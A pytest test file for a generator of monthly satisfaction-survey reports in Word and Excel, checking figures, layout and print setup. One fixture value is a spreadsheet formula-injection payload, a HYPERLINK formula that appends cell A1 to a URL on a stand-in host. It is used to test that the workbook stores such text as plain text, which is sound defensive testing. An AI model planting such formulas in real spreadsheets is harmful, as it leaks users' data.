"""The report's files read back: the same figures in all of them, no formulas, the decree's form."""

import csv
import io
import time
import zipfile
from dataclasses import replace
from decimal import Decimal

import docx
import openpyxl
import pytest
from months import make_month

from omr.figures import Share, vietnamese
from omr.records.counts.tallies import Tallies
from omr.records.offices.periods import parse_period
from omr.reports import monthly
from omr.reports.document import charts as charts_module
from omr.reports.document.document import document
from omr.reports.figures.statistics import Month, Opinion, Past
from omr.reports.tables import tidy
from omr.reports.tables.tables import printed
from omr.reports.tables.time_tables import MM_PER_LETTER
from omr.reports.workbook import FILLS, workbook
from omr.workspace import ReportSettings

SETTINGS = ReportSettings()
HOSTILE = '=HYPERLINK("http://x/?"&A1,"bấm") \x07 <b> & "'


def report_of(month, before):
    tables = monthly.annex(month, before, SETTINGS)
    return tables, document(month, before, tables, SETTINGS), workbook(month, tables)


@pytest.fixture(scope="module")
def march():
    month = make_month("2025-03")
    hostile = Opinion("PC06", "DL-01", "+Khác", HOSTILE)
    return replace(month, opinions=(*month.opinions, hostile))


@pytest.fixture(scope="module")
def february():
    return make_month("2025-02")


@pytest.fixture(scope="module")
def files(march, february):
    return report_of(march, february)


@pytest.fixture(scope="module")
def written(files):
    return docx.Document(io.BytesIO(files[1]))


@pytest.fixture(scope="module")
def sheets(files):
    return openpyxl.load_workbook(io.BytesIO(files[2]))


def biểu(written, table):
    """The Word table with a Biểu's headings."""
    wanted = [column.heading for column in table.columns if not column.over]
    for found in written.tables:
        headings = {cell.text for row in found.rows[:2] for cell in row.cells}
        if len(found.columns) == len(table.columns) and headings.issuperset(wanted):
            return [[cell.text for cell in row.cells] for row in found.rows]
    raise AssertionError(table.title)


def test_the_document_prints_every_cell(files, written):
    for table in files[0]:
        rows = biểu(written, table)
        for row, read in zip(reversed(table.rows), reversed(rows), strict=False):
            shown = [printed(cell, of.style) for cell, of in zip(row.cells, table.columns, strict=True)]
            if row.weight.name == "GROUP":  # one cell across the table
                assert set(read) == {next(text for text in shown if text)}
            else:
                assert [text.replace("\x07", " ") for text in shown] == read


def figure_rows(month):
    data = tidy.as_csv(tidy.FIGURES, tidy.figure_rows(month))
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_all_files_say_the_same_of_every_unit(march, files, written, sheets):
    overall = {
        march.names[row["unit"]]: row
        for row in figure_rows(march)
        if row["measure"] == "overall" and row["unit"]
    }
    in_document = {row[1]: row for row in biểu(written, files[0][1])}
    in_workbook = {row[1]: row for row in sheets["Biểu 02"].iter_rows(values_only=True)}
    counted = [name for name, row in overall.items() if row["N"] != "0"]
    assert len(counted) == 17
    for name in counted:
        row = overall[name]
        percent = Decimal(row["percent"])
        assert in_document[name][13:15] == [vietnamese(int(row["n"])), vietnamese(percent)]
        assert in_workbook[name][13:15] == (int(row["n"]), float(percent))
        assert in_workbook[name][15:17] == (float(row["low95"]), float(row["high95"]))


def test_the_overall_figure_is_the_same_everywhere(march, written, sheets):
    share = march.pool().overall
    text = "\n".join(paragraph.text for paragraph in written.paragraphs)
    assert f"{vietnamese(share.part)}/{vietnamese(share.whole)} phiếu" in text
    assert f"chiếm tỷ lệ {vietnamese(share.percent())}%" in text
    total = list(sheets["Biểu 02"].iter_rows(values_only=True))
    (city,) = [row for row in total if row[1] == "Toàn thành phố"]
    assert city[2] == share.whole and city[13:15] == (share.part, float(share.percent()))
    figures = monthly.figures(march)
    assert figures["overall"] == {"satisfied": share.part, "answered": share.whole}
    b1 = figures["questions"]["DL-01/B1"]
    assert sum(b1["counts"].values()) == b1["answered"]
    assert b1["counts"]["5"] + b1["counts"]["4"] == b1["satisfied"]


def test_the_workbooks_raw_data_are_the_csv(march, sheets):
    data = tidy.as_csv(tidy.COUNTS, tidy.count_rows(march)).decode("utf-8-sig")
    expected = list(csv.reader(io.StringIO(data, newline="")))
    rows = [
        ["" if v is None else str(v) for v in row] for row in sheets["Số liệu"].iter_rows(values_only=True)
    ]
    assert rows == expected


def test_text_is_never_a_formula(sheets):
    kinds = {cell.data_type for sheet in sheets for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds
    opinions = [row[1] for row in sheets["Biểu 07"].iter_rows(values_only=True)]
    assert any(str(text).startswith("=HYPERLINK") for text in opinions)


def test_numbers_are_numbers(files, sheets):
    for table in files[0][:2]:
        (city,) = [
            row for row in sheets[f"Biểu {table.number}"].iter_rows() if row[1].value == "Toàn thành phố"
        ]
        assert [cell.data_type for cell in city].count("n") >= 8


def test_sheets_are_ready_to_print(sheets):
    for sheet in sheets:
        assert sheet.page_setup.paperSize == 9 and sheet.page_setup.fitToHeight == 0
        if sheet.title.startswith("Biểu 0"):
            assert sheet.freeze_panes is not None and sheet.print_title_rows


def test_the_same_month_gives_the_same_bytes_on_another_day(march, february, files, monkeypatch):
    monkeypatch.setattr(time, "time", lambda: 4_000_000_000.0)
    assert report_of(march, february)[1:] == files[1:]


def test_the_page_is_the_decrees(written):
    front, first, annex, method = written.sections
    assert (round(first.page_width.mm), round(first.page_height.mm)) == (210, 297)
    assert (round(annex.page_width.mm), round(annex.page_height.mm)) == (297, 210)
    for section in (front, first, annex, method):
        assert all(20 <= round(edge.mm, 1) <= 25 for edge in (section.top_margin, section.bottom_margin))
        assert 30 <= round(section.left_margin.mm, 1) <= 35
        assert 15 <= round(section.right_margin.mm, 1) <= 20
        assert section.different_first_page_header_footer
        assert "PAGE" not in section.first_page_header._element.xml
        assert "PAGE" in section.header._element.xml
        assert "mã dữ liệu" in section.footer.paragraphs[0].text
        assert section.first_page_footer.paragraphs[0].text == section.footer.paragraphs[0].text
    assert written.styles["Normal"].font.name == "Times New Roman"


def test_nothing_is_signed_or_numbered_for_the_office(written):
    left, right = (cell.text for cell in written.tables[0].rows[0].cells)
    assert "Số:          /BC-PV01" in left
    assert "ngày       tháng       năm 2025" in right
    signature = next(table for table in written.tables if "Nơi nhận:" in table.rows[0].cells[0].text)
    assert signature.rows[0].cells[1].text.strip() == "TRƯỞNG PHÒNG"
    assert "MẬT" not in "\n".join(paragraph.text for paragraph in written.paragraphs)


def test_an_empty_month_and_no_month_at_all_are_reported(february):
    april = make_month("2025-04")
    nothing = Month(parse_period("2025-04"), {}, (), Tallies())
    for month, before in ((april, february), (nothing, None)):
        _, written, _ = report_of(month, before)
        text = "\n".join(paragraph.text for paragraph in docx.Document(io.BytesIO(written)).paragraphs)
        assert "không có phiếu hợp lệ nào" in text
        assert "nan" not in text and "None" not in text


def test_a_units_report_speaks_of_that_unit_only(march, february, tmp_path):
    unit = march.only("PC06")
    paths = monthly.write(unit, february.only("PC06"), tmp_path, monthly.FORMATS, SETTINGS)
    assert {path.name for path in paths} >= {"bao-cao-2025-03-PC06.docx", "bieu-2025-03-PC06.xlsx"}
    text = "\n".join(p.text for p in docx.Document(tmp_path / "bao-cao-2025-03-PC06.docx").paragraphs)
    assert "Phòng Cảnh sát quản lý hành chính về trật tự xã hội tháng 3 năm 2025" in text
    assert "giao thông" not in text.casefold()
    assert "Kính gửi: Phòng Cảnh sát quản lý hành chính về trật tự xã hội." in text
    assert "Giám đốc" not in text
    # The office above does not report to a unit: it is told its result.
    assert "\nTHÔNG BÁO\n" in text and "BÁO CÁO" not in text and "Kèm theo Thông báo" in text
    left = docx.Document(tmp_path / "bao-cao-2025-03-PC06.docx").tables[0].cell(0, 0).text
    assert "/TB-PV01" in left


def test_headings_in_two_rows_are_high_enough_for_the_words_that_stand_in_both(march):
    """LibreOffice cuts them off on the next page where no height is said."""
    from omr.reports.document.document_tables import LINE_TWIPS, table_element

    (units,) = [table for table in monthly.annex(march, None, SETTINGS) if table.number == "02"]
    heights = [int(value) for value in table_element(units).xpath(".//w:trHeight/@w:val")]
    assert len(heights) == 2 and sum(heights) >= 3 * LINE_TWIPS - 2  # "Tăng, giảm / (điểm phần / trăm)"


# Order of child elements, ECMA-376 part 1, 17.2-17.7; Word repairs or refuses what is out of order.
ORDER = {
    "pPr": "pStyle keepNext keepLines pageBreakBefore pBdr shd tabs spacing ind jc outlineLvl rPr sectPr",
    "rPr": "rStyle rFonts b bCs i iCs caps color spacing kern sz szCs u lang",
    "tblPr": "tblStyle tblW jc tblInd tblBorders shd tblLayout tblCellMar tblLook",
    "tcPr": "tcW gridSpan vMerge tcBorders shd noWrap tcMar vAlign",
    "trPr": "cantSplit trHeight tblHeader jc",
    "sectPr": "headerReference footerReference type pgSz pgMar pgNumType cols titlePg docGrid",
}


def test_elements_stand_in_the_order_that_word_wants(written):
    parts = [written.element, written.styles.element]
    for section in written.sections:
        parts += [section.header._element, section.footer._element, section.first_page_footer._element]
    seen = set()
    for part in parts:
        for element in part.iter():
            name = element.tag.rpartition("}")[2]
            if name in ORDER:
                seen.add(name)
                children = [child.tag.rpartition("}")[2] for child in element]
                known = ORDER[name].split()
                places = [known.index(child) for child in children if child in known]
                assert places == sorted(places), (name, children)
    assert seen == set(ORDER)


def test_a_picture_without_room_says_whom_it_leaves_out(march):
    assert charts_module.left_out(march, 5) == "; 5/17 đơn vị có nhiều phiếu nhất"
    assert len(charts_module.units_drawn(march, 5)) == 5
    assert charts_module.left_out(march) == ""


def test_a_trend_shows_every_month_and_passes_over_none(march, february):
    """A month without answers leaves its place empty, in the table of the chart as in its line."""
    past = tuple(
        Past(parse_period(name), Share(part, 200), closed)
        for name, part, closed in (("2024-10", 180, True), ("2024-11", 170, True), ("2025-01", 185, False))
    )
    tables, written, packed = report_of(replace(march, past=past), february)
    sheet = openpyxl.load_workbook(io.BytesIO(packed))["Biểu đồ"]
    rows = list(sheet.iter_rows(values_only=True))
    first = next(at for at, row in enumerate(rows) if row[0] == "Hài lòng trở lên qua các kỳ (%)") + 2
    drawn = {row[0]: row[1] for row in rows[first : first + 6]}
    assert list(drawn) == [
        f"tháng {name}"
        for name in ("10 năm 2024", "11 năm 2024", "12 năm 2024", "01 năm 2025", "02 năm 2025", "3 năm 2025")
    ]
    assert drawn["tháng 12 năm 2024"] is None and drawn["tháng 02 năm 2025"] is None
    assert drawn["tháng 01 năm 2025"] == 92.5
    with zipfile.ZipFile(io.BytesIO(packed)) as book:
        charts = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/charts/chart")]
    (line,) = [chart for chart in charts if "<c:lineChart>" in chart]
    assert "<c:errBars>" in line and 'dispBlanksAs val="span"' not in line
    text = [paragraph.text for paragraph in docx.Document(io.BytesIO(written)).paragraphs]
    assert any("qua các kỳ" in words for words in text)
    assert any(table.number == "10" for table in tables)
    assert charts_module.trend_chart(replace(march, past=past)).startswith(b"\x89PNG")


def test_no_two_levels_look_alike_where_patterns_are_hatches():
    """LibreOffice draws every pattern as the same hatch: one level at most may have one."""
    assert sum("pattern" in fill for fill in FILLS) == 1
    assert len({str(fill) for fill in FILLS}) == len(FILLS)


def test_rows_stay_with_what_they_belong_to(written):
    """The last rows of a table with each other and with its note; what heads rows, with the first of them."""
    for table in written.tables:
        keeps = ["w:keepNext" in row._tr.xml for row in table.rows]
        bold = ["<w:b/>" in row._tr.xml for row in table.rows]
        heading = ["w:tblHeader" in row._tr.xml for row in table.rows]
        after = table._tbl.getnext()
        note = after is not None and "<w:i/>" in getattr(after, "xml", "")
        if len(table.rows) > 8:
            assert keeps[-3:] == [True, True, note]
        if sum(heading):  # a table of figures
            heads = [at for at in range(len(keeps) - 1) if bold[at] and not bold[at + 1] and not heading[at]]
            assert all(keeps[at] for at in heads), table.cell(0, 0).text


def test_what_ends_a_section_takes_no_room(written):
    """After a page that is full it stood alone on an empty one."""
    ends = [one for one in written.paragraphs if one._p.pPr is not None and one._p.pPr.sectPr is not None]
    assert len(ends) == len(written.sections) - 1
    assert all(one.text == "" and one.paragraph_format.line_spacing.pt <= 1 for one in ends)


def test_no_heading_of_the_units_by_questions_breaks_in_a_word(files):
    (heat,) = (table for table in files[0] if table.number == "08")
    for column in heat.columns[2:]:
        assert all(len(word) * MM_PER_LETTER <= column.width_mm for word in column.heading.split())
    assert sum(column.width_mm for column in heat.columns) <= 252


def test_nothing_is_signed_on_an_empty_page(written):
    """Room for stamp and signature is not torn from the signer's title, nor both from the last words."""
    (block,) = (table for table in written.tables if "Nơi nhận:" in table.cell(0, 0).text)
    assert "w:cantSplit" in block.rows[0]._tr.xml
    assert "w:keepNext" in block._tbl.getprevious().xml and "./." in block._tbl.getprevious().xml
